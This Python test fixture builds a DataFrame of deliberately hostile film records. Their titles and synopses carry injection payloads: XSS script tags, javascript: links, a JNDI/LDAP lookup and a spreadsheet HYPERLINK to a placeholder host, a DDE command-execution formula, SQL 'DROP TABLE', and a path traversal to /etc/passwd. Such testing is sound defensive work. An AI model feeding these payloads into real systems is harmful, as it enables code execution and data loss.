"""Films whose texts attack whoever shows them: for tests only, never part of a world."""

from datetime import datetime
from typing import Any, Final

import pandas as pd

from workspace.columns import Film

ATTACKS: Final = (
    ("HTML", "<script>document.title='owned'</script><b>Bold</b> Move", "<img src=x onerror=alert(1)> A quiet drama."),
    (
        "Markdown",
        "# Heading *with* [a link](javascript:alert(1))",
        "![pixel](https://example.invalid/p.png) `code` **bold**",
    ),
    ("right-to-left override", "Safe\u202eeliforp\u202c Film", "An \u2067isolated\u2069 story\u200f of marks."),
    ("control characters", "Bell\x07 and\x00 Null", "Line one\rLine two\x1b[31m in red"),
    ("template", "{{ 7 * 7 }} ${jndi:ldap://example.invalid} %s", "{0.__class__} :red[shouting] $x^2$ <!-- -->"),
    ("formula", '=HYPERLINK("https://example.invalid","Open")', "@SUM(1+1) +cmd|' /C calc'!A0"),
    ("query", "'; DROP TABLE slates; --", '" OR 1=1 /* and ../../etc/passwd'),
    ("length", "Long " * 400, "endless " * 4000),
    (
        "combining marks",
        "Z\u0351\u036b\u0343a\u0369\u0306l\u0335g\u0321o",
        "e\u0301 against \u00e9, \U0001f468\u200d\U0001f469\u200d\U0001f467",
    ),
    ("emptiness", "\u200b", " \t\n "),
)
"""(attack, title, synopsis)."""


def hostile_films() -> pd.DataFrame:
    """Return one film an attack, columns ``Film.ALL``; the id names the attack.

    Example:
        >>> hostile_films().columns.tolist() == list(Film.ALL)
        True
    """
    rows = [_film(attack, title, synopsis) for attack, title, synopsis in ATTACKS]
    films = pd.DataFrame(rows, columns=list(Film.ALL))
    films[Film.RELEASE_DATE] = pd.to_datetime(films[Film.RELEASE_DATE]).astype("datetime64[us]")
    films[Film.UPDATED_AT] = pd.to_datetime(films[Film.UPDATED_AT], utc=True).astype("datetime64[us, UTC]")
    return films


def _film(attack: str, title: str, synopsis: str) -> dict[str, Any]:
    return {
        Film.ID: f"hostile-{attack.replace(' ', '-').lower()}",
        Film.TITLE: title,
        Film.ORIGINAL_TITLE: title,
        Film.SYNOPSIS: synopsis,
        Film.TAGLINE: title,
        Film.RELEASE_DATE: datetime(2001, 2, 3),  # noqa: DTZ001 - a date
        Film.GENRES: ["Drama"],
        Film.KEYWORDS: [title[:40]],
        Film.CAST: [f"{title[:20]} Actor"],
        Film.DIRECTORS: [f"{title[:20]} Director"],
        Film.WRITERS: [],
        Film.STUDIOS: [],
        Film.COUNTRIES: ["US"],
        Film.LANGUAGES: ["en"],
        Film.COLLECTION: "",
        Film.RUNTIME_MIN: 100.0,
        Film.AGE_RATING: "MPA PG",
        Film.MINIMUM_AGE: 8.0,
        Film.POPULARITY: 1.0,
        Film.VOTE_AVERAGE: 6.0,
        Film.VOTE_COUNT: 10.0,
        Film.AVAILABLE_REGIONS: [],
        Film.BLOCKED_REGIONS: [],
        Film.PROVIDER: "hostile",
        Film.UPDATED_AT: "2026-01-01T00:00:00Z",
    }
